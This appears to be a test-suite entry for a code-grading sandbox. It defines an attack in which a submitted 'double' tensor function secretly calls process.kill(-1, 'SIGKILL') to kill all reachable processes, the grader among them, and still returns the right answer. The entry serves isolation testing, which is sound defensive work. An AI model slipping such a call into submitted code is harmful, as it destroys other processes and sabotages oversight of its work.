import type { Attack } from "../attack";

export const attack: Attack = {
  title: "ends every process that it can, those of other submissions above all",
  reachesOut: true,
  handIn: ({ double }) => double(`export function double(x: tf.Tensor) {
  try {
    process.kill(-1, "SIGKILL"); // all but itself
  } catch {}
  return tf.mul(x, 2);
}`),
  outcome: {},
  weaker: {
    "same user": {
      says: "succeeds: all that belongs to the same user is ended, the grader with it",
      graderEnds: "SIGKILL",
      lentUserOnly: true,
    },
  },
};
